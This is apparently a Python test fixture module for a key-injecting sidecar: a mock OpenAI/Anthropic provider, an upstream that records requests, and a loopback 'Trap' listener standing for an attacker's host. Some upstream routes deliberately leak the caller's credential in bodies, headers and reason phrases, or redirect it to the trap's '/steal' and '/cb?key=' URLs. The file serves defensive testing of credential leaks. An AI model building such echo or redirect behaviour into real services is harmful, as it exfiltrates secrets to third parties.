"""Local stand-ins for the APIs a sidecar calls, and for an attacker's host, on loopback.

One mock LLM provider for the demo, the tests and the benchmarks: it speaks
the OpenAI shapes (``POST /v1/chat/completions``, ``GET /v1/models``) and the
Anthropic one (``POST /v1/messages``), each as JSON and as server-sent events,
with ``usage`` as the real APIs report it, so the official SDKs work against
it unchanged. It checks the key: every request is recorded with *which* of the
configured keys it carried (a name, never the key itself) and whether
anything shaped like the agent's token arrived, so a caller can prove from the
outside that the upstream got the key the agent never held.

The server runs on its own event loop in a daemon thread (``Served``), because
its callers are synchronous: the demo, the SDK clients of the e2e tests, and
the benchmarks' drivers. Anything that serves an ``aiohttp`` app for them
uses ``Served``, so there is one way to start and stop such a server.

To teach the mock another API shape, add a handler and route it in
``MockLLM.app``; usage figures come from ``Usage`` so that an extension
reports them the way the existing shapes do.

Beside it: ``RecordingUpstream``, a plain HTTP upstream that records every
request (so "nothing reached the upstream" is read from its record) and has
routes that misbehave the ways real upstreams do (echo the credential in a
body, a header, a redirect or a reason phrase; redirect elsewhere; stream
slowly); and ``Trap``, a TCP listener standing for the attacker's host, where
any connection at all is a leak. The attack catalogues and the soak use them.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import gzip
import json
import socket
import ssl
import tempfile
import threading
import time
import urllib.parse
from collections.abc import Mapping
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from aiohttp import web

from sidekey.core import certificates

#: The value of ``Seen.key`` when no credential arrived, and when one arrived that no key matches.
NO_KEY = "none"
UNKNOWN_KEY = "unknown"


class Served:
    """An ``aiohttp`` app served on 127.0.0.1 by its own event loop in a daemon thread.

    ``port`` is the ephemeral port it bound. ``stop()`` (or leaving the
    ``with`` block) cleans the app up and ends the thread.
    """

    def __init__(self, app: web.Application, *, ssl_context: ssl.SSLContext | None = None,
                 name: str = "served", backlog: int = 512, shutdown_timeout: float = 0.1,
                 host: str = "127.0.0.1") -> None:
        self.scheme = "https" if ssl_context is not None else "http"
        self.host = host  # a real node's pods reach the bridge address, not loopback
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, name=name, daemon=True)
        self._thread.start()
        runner = web.AppRunner(app, access_log=None, shutdown_timeout=shutdown_timeout,
                               handler_cancellation=True)

        async def start() -> int:
            await runner.setup()
            site = web.TCPSite(runner, host, 0, ssl_context=ssl_context, backlog=backlog)
            await site.start()
            server: Any = site._server  # aiohttp exposes no public accessor for the bound port
            return int(server.sockets[0].getsockname()[1])

        self._runner = runner
        self.port = asyncio.run_coroutine_threadsafe(start(), self._loop).result(10)

    @property
    def url(self) -> str:
        return f"{self.scheme}://{self.host}:{self.port}"

    def stop(self) -> None:
        if not self._thread.is_alive():
            return
        try:
            asyncio.run_coroutine_threadsafe(self._runner.cleanup(), self._loop).result(10)
        finally:
            self._loop.call_soon_threadsafe(self._loop.stop)
            self._thread.join(5)
            if not self._thread.is_alive():
                self._loop.close()

    def __enter__(self) -> Served:
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()


def tls_context(common_name: str, host: str = "127.0.0.1") -> tuple[ssl.SSLContext, certificates.KeyPair]:
    """A server context for ``host`` signed by a fresh CA; returns it with the CA (to trust)."""
    ca = certificates.make_ca(f"{common_name}-ca")
    leaf = certificates.issue(ca, common_name, ip_addresses=sorted({"127.0.0.1", host}), dns_names=["localhost"])
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    with tempfile.TemporaryDirectory(prefix="sidekey-upstream-tls-") as tmp:
        # ssl loads a chain from files only; the files live just long enough to be read
        cert, key = Path(tmp) / "tls.crt", Path(tmp) / "tls.key"
        cert.write_bytes(leaf.cert_pem)
        key.write_bytes(leaf.key_pem)
        ctx.load_cert_chain(cert, key)
    return ctx, ca


@dataclass(frozen=True)
class Seen:
    """One request as the mock received it, without the key."""

    method: str
    path: str
    key: str  # the name of the configured key it carried, NO_KEY or UNKNOWN_KEY
    caller_token_seen: bool  # did anything shaped like a JWT (the agent's token) arrive?
    at: float

    @property
    def key_ok(self) -> bool:
        return self.key not in (NO_KEY, UNKNOWN_KEY)


@dataclass(frozen=True)
class Usage:
    """Token counts as the providers report them (here: words, which is close enough)."""

    prompt: int
    completion: int

    def openai(self) -> dict[str, int]:
        return {"prompt_tokens": self.prompt, "completion_tokens": self.completion,
                "total_tokens": self.prompt + self.completion}

    def anthropic(self) -> dict[str, int]:
        return {"input_tokens": self.prompt, "output_tokens": self.completion}


def _prompt_words(body: Mapping[str, Any]) -> int:
    words = 0
    for message in body.get("messages") or []:
        content = message.get("content") if isinstance(message, Mapping) else None
        if isinstance(content, str):
            words += len(content.split())
        elif isinstance(content, list):
            words += sum(len(str(part.get("text", "")).split()) for part in content if isinstance(part, Mapping))
    return max(words, 1)


@dataclass
class MockLLM:
    """A mock provider accepting the keys in ``keys`` (name -> key); replace ``keys`` to revoke one.

    OpenAI calls carry the key as ``Authorization: Bearer``, Anthropic calls as
    ``x-api-key``; either is matched against every configured key. With
    ``record_file`` each request is also appended there as a JSON line.
    """

    keys: Mapping[str, str]
    record_file: Path | None = None
    reply: str = "Hello from the upstream."
    word_gap: float = 0.02  # seconds between streamed words: each arrives as its own event
    model_ids: tuple[str, ...] = ("mock-model",)  # what GET /v1/models lists
    seen: list[Seen] = field(default_factory=list)
    ca_pem: str = ""  # the CA that signed the serving certificate, once started with TLS
    _served: Served | None = None

    # --- what arrived -------------------------------------------------------------------

    def _which_key(self, request: web.Request) -> str:
        auth = request.headers.get("Authorization", "")
        given = auth.removeprefix("Bearer ") if auth.startswith("Bearer ") else request.headers.get("x-api-key", "")
        if not given:
            return NO_KEY
        return next((name for name, key in self.keys.items() if given == key), UNKNOWN_KEY)

    def _record(self, request: web.Request) -> Seen:
        blob = " ".join(request.headers.values())
        seen = Seen(request.method, request.path, self._which_key(request),
                    caller_token_seen="eyJ" in blob, at=time.time())
        self.seen.append(seen)
        if self.record_file is not None:
            with self.record_file.open("a") as f:
                f.write(json.dumps({k: v for k, v in asdict(seen).items() if k != "at"}) + "\n")
        return seen

    def _words(self, seen: Seen) -> list[str]:
        text = self.reply if seen.key_ok else ""
        return text.split(" ") if text else []

    # --- OpenAI -------------------------------------------------------------------------

    @staticmethod
    def _openai_unauthorized() -> web.Response:
        return web.json_response(
            {"error": {"type": "invalid_request_error", "message": "Incorrect API key provided."}}, status=401)

    async def chat(self, request: web.Request) -> web.StreamResponse:
        seen = self._record(request)
        if not seen.key_ok:
            return self._openai_unauthorized()
        body = await request.json()
        model, created, words = body.get("model", "mock-model"), int(time.time()), self._words(seen)
        usage = Usage(_prompt_words(body), len(words))
        if not body.get("stream"):
            return web.json_response({
                "id": "chatcmpl-mock", "object": "chat.completion", "created": created, "model": model,
                "choices": [{"index": 0, "finish_reason": "stop",
                             "message": {"role": "assistant", "content": " ".join(words)}}],
                "usage": usage.openai(),
            })
        resp = await self._sse(request)

        def chunk(choices: list[dict[str, Any]], **extra: Any) -> bytes:
            doc = {"id": "chatcmpl-mock", "object": "chat.completion.chunk", "created": created,
                   "model": model, "choices": choices, **extra}
            return f"data: {json.dumps(doc)}\n\n".encode()

        for i, word in enumerate(words):
            await resp.write(chunk([{"index": 0, "delta": {"content": word if i == 0 else " " + word},
                                     "finish_reason": None}]))
            await asyncio.sleep(self.word_gap)
        await resp.write(chunk([{"index": 0, "delta": {}, "finish_reason": "stop"}]))
        if (body.get("stream_options") or {}).get("include_usage"):
            await resp.write(chunk([], usage=usage.openai()))  # OpenAI's last chunk: no choices, the usage
        await resp.write(b"data: [DONE]\n\n")
        await resp.write_eof()
        return resp

    async def models(self, request: web.Request) -> web.Response:
        if not self._record(request).key_ok:
            return self._openai_unauthorized()
        return web.json_response({"object": "list", "data": [
            {"id": m, "object": "model", "created": 0, "owned_by": "sidekey"} for m in self.model_ids]})

    # --- Anthropic ----------------------------------------------------------------------

    async def messages(self, request: web.Request) -> web.StreamResponse:
        seen = self._record(request)
        if not seen.key_ok:
            return web.json_response(
                {"type": "error", "error": {"type": "authentication_error", "message": "invalid x-api-key"}},
                status=401)
        body = await request.json()
        words = self._words(seen)
        usage = Usage(_prompt_words(body), len(words))
        message = {"id": "msg_mock", "type": "message", "role": "assistant",
                   "model": body.get("model", "mock-model"),
                   "content": [{"type": "text", "text": " ".join(words)}],
                   "stop_reason": "end_turn", "stop_sequence": None, "usage": usage.anthropic()}
        if not body.get("stream"):
            return web.json_response(message)
        resp = await self._sse(request)

        async def event(kind: str, data: dict[str, Any]) -> None:
            await resp.write(f"event: {kind}\ndata: {json.dumps({'type': kind, **data})}\n\n".encode())

        await event("message_start", {"message": {**message, "content": [], "stop_reason": None,
                                                  "usage": {**usage.anthropic(), "output_tokens": 0}}})
        await event("content_block_start", {"index": 0, "content_block": {"type": "text", "text": ""}})
        for i, word in enumerate(words):
            await event("content_block_delta", {"index": 0, "delta": {
                "type": "text_delta", "text": word if i == 0 else " " + word}})
            await asyncio.sleep(self.word_gap)
        await event("content_block_stop", {"index": 0})
        await event("message_delta", {"delta": {"stop_reason": "end_turn", "stop_sequence": None},
                                      "usage": {"output_tokens": usage.completion}})
        await event("message_stop", {})
        await resp.write_eof()
        return resp

    # --- neither --------------------------------------------------------------------------

    async def slow_stream(self, request: web.Request) -> web.StreamResponse:
        """``GET /v1/slow?n=N``: N bare events 0.2 s apart, for tests of long streams."""
        self._record(request)
        resp = await self._sse(request)
        for i in range(int(request.query.get("n", "10"))):
            await resp.write(f"data: {i}\n\n".encode())
            await asyncio.sleep(0.2)
        await resp.write_eof()
        return resp

    async def other(self, request: web.Request) -> web.Response:
        self._record(request)
        return web.json_response({"error": {"type": "not_found", "message": "no such route"}}, status=404)

    @staticmethod
    async def _sse(request: web.Request) -> web.StreamResponse:
        resp = web.StreamResponse(headers={"Content-Type": "text/event-stream", "Cache-Control": "no-cache"})
        await resp.prepare(request)
        return resp

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_post("/v1/chat/completions", self.chat)
        app.router.add_get("/v1/models", self.models)
        app.router.add_post("/v1/messages", self.messages)
        app.router.add_get("/v1/slow", self.slow_stream)
        app.router.add_route("*", "/{tail:.*}", self.other)
        return app

    # --- lifecycle ----------------------------------------------------------------------

    def start(self, *, tls: bool = True, host: str = "127.0.0.1") -> int:
        """Serve on an ephemeral port of ``host`` (over TLS unless told not to); return the port."""
        ctx = None
        if tls:
            ctx, ca = tls_context("mock-llm", host)
            self.ca_pem = ca.cert_pem.decode()
        self._served = Served(self.app(), ssl_context=ctx, name="mock-llm", host=host)
        return self._served.port

    @property
    def port(self) -> int:
        if self._served is None:
            raise RuntimeError("the mock LLM is not started")
        return self._served.port

    @property
    def url(self) -> str:
        """The base URL, with the ``/v1`` both providers put in front of their paths."""
        if self._served is None:
            raise RuntimeError("the mock LLM is not started")
        return f"{self._served.url}/v1"

    def stop(self) -> None:
        if self._served is not None:
            self._served.stop()
            self._served = None

    def __enter__(self) -> MockLLM:
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()


# --- an upstream that records everything and misbehaves on request ------------------------------


@dataclass(frozen=True)
class Received:
    method: str
    raw_path: str
    host: str
    headers: dict[str, str]
    body: bytes


def _credential(request: web.Request) -> str:
    """The credential a request carried, in whichever place its auth type puts it."""
    auth = request.headers.get("Authorization", "")
    if auth.startswith("Bearer "):
        return auth[7:]
    if auth.startswith("Basic "):
        return base64.b64decode(auth[6:]).decode()
    return request.headers.get("X-Goog-Api-Key") or request.query.get("key", "")


def _echoes(value: str) -> str:
    """The credential as careless upstreams echo it: raw, URL-encoded and base64."""
    return " ".join([value, urllib.parse.quote(value, safe=""), urllib.parse.quote_plus(value),
                     base64.b64encode(value.encode()).decode(),
                     base64.urlsafe_b64encode(value.encode()).decode().rstrip("=")])


@dataclass
class RecordingUpstream:
    """A plain-HTTP upstream that records what reaches it; some routes misbehave.

    ``trap_url`` is where its redirects point (the attacker's host).
    ``oauth_client`` is the (client id, secret) its ``/oauth/token`` endpoint
    knows, and ``access_token`` what that endpoint issues.
    """

    trap_url: str
    oauth_client: tuple[str, str] = ("", "")
    access_token: str = ""
    seen: list[Received] = field(default_factory=list)
    slow_done: int = 0
    _served: Served | None = None

    @property
    def port(self) -> int:
        if self._served is None:
            raise RuntimeError("the recording upstream is not started")
        return self._served.port

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def paths(self) -> list[str]:
        return [s.raw_path for s in self.seen]

    async def _record(self, request: web.Request) -> Received:
        r = Received(request.method, request.raw_path, request.headers.get("Host", ""), dict(request.headers),
                     await request.read())
        self.seen.append(r)
        return r

    async def oauth_token(self, request: web.Request) -> web.Response:
        """An OAuth2 token endpoint (RFC 6749 4.4) that knows one client."""
        await self._record(request)
        auth = request.headers.get("Authorization", "")
        pair = base64.b64decode(auth[6:]).decode() if auth.startswith("Basic ") else ":"
        client, _, secret = pair.partition(":")
        if (urllib.parse.unquote_plus(client), urllib.parse.unquote_plus(secret)) != self.oauth_client:
            return web.json_response({"error": "invalid_client"}, status=401)
        return web.json_response({"access_token": self.access_token, "token_type": "Bearer", "expires_in": 3600})

    async def ok(self, request: web.Request) -> web.Response:
        r = await self._record(request)
        return web.json_response({"ok": True, "path": r.raw_path})

    async def stream(self, request: web.Request) -> web.StreamResponse:
        """``?n=`` events ``?gap=`` seconds apart, then ``[DONE]``."""
        await self._record(request)
        n, gap = int(request.query.get("n", "5")), float(request.query.get("gap", "0.1"))
        resp = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await resp.prepare(request)
        for i in range(n):
            await resp.write(f"data: {i}\n\n".encode())
            await asyncio.sleep(gap)
        await resp.write(b"data: [DONE]\n\n")
        await resp.write_eof()
        return resp

    async def slow(self, request: web.Request) -> web.Response:
        await self._record(request)
        await asyncio.sleep(float(request.query.get("s", "5")))
        self.slow_done += 1
        return web.Response(text="late")

    async def redirect(self, request: web.Request) -> web.Response:
        await self._record(request)
        return web.Response(status=302, headers={"Location": f"{self.trap_url}/steal"}, text="moved")

    async def leak_body(self, request: web.Request) -> web.StreamResponse:
        await self._record(request)
        text = f'{{"error": "invalid key {_echoes(_credential(request))}"}}\n'.encode()
        resp = web.StreamResponse(status=401, headers={"Content-Type": "application/json"})
        await resp.prepare(request)
        for i in range(0, len(text), 7):  # small chunks: the key straddles chunk boundaries
            await resp.write(text[i : i + 7])
        await resp.write_eof()
        return resp

    async def leak_header(self, request: web.Request) -> web.Response:
        await self._record(request)
        value = _credential(request)
        return web.Response(status=403, text="forbidden", headers={
            "X-Echo": value, "X-Echo-Encoded": urllib.parse.quote(value, safe=""),
            "X-Echo-B64": base64.b64encode(value.encode()).decode(),
            "WWW-Authenticate": f'Bearer error="invalid_token", token="{value}"'})

    async def leak_location(self, request: web.Request) -> web.Response:
        await self._record(request)
        value = _credential(request)
        q = urllib.parse.urlencode({"key": value, "b64": base64.b64encode(value.encode()).decode()})
        return web.Response(status=302, text=f"see {self.trap_url}/cb?{q}",
                            headers={"Location": f"{self.trap_url}/cb?{q}&raw={value}"})

    async def leak_gzip(self, request: web.Request) -> web.Response:
        """An error page compressed when the client asks for it, as CDNs and frameworks do."""
        await self._record(request)
        text = f"invalid key {_echoes(_credential(request))}\n".encode()
        if "gzip" in request.headers.get("Accept-Encoding", ""):
            return web.Response(status=401, body=gzip.compress(text),
                                headers={"Content-Encoding": "gzip", "Content-Type": "text/plain"})
        return web.Response(status=401, body=text, headers={"Content-Type": "text/plain"})

    async def leak_reason(self, request: web.Request) -> web.Response:
        await self._record(request)
        return web.Response(status=401, reason=f"Invalid key {_credential(request)}", text="no")

    def app(self) -> web.Application:
        app = web.Application(client_max_size=64 << 20)
        app.router.add_route("*", "/v1/stream", self.stream)
        app.router.add_route("*", "/v1/slow", self.slow)
        app.router.add_route("*", "/v1/redirect", self.redirect)
        app.router.add_route("*", "/leak/body", self.leak_body)
        app.router.add_route("*", "/leak/header", self.leak_header)
        app.router.add_route("*", "/leak/location", self.leak_location)
        app.router.add_route("*", "/leak/gzip", self.leak_gzip)
        app.router.add_route("*", "/leak/reason", self.leak_reason)
        app.router.add_post("/oauth/token", self.oauth_token)
        app.router.add_route("*", "/{tail:.*}", self.ok)
        return app

    def start(self) -> None:
        self._served = Served(self.app(), name="recording-upstream")

    def stop(self) -> None:
        if self._served is not None:
            self._served.stop()
            self._served = None

    def __enter__(self) -> RecordingUpstream:
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()


# --- the attacker's host -------------------------------------------------------------------------


class Trap:
    """A TCP listener that records every connection and the first bytes sent on it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port: int = self.sock.getsockname()[1]
        self.hits: list[bytes] = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, name="trap", daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        self.sock.settimeout(0.2)
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(0.5)
                try:
                    data = conn.recv(65536)
                except OSError:
                    data = b""
                self.hits.append(data or b"<connected>")
                with contextlib.suppress(OSError):
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def close(self) -> None:
        self._stop = True
        self.sock.close()
        self._thread.join(2)

    def __enter__(self) -> Trap:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()
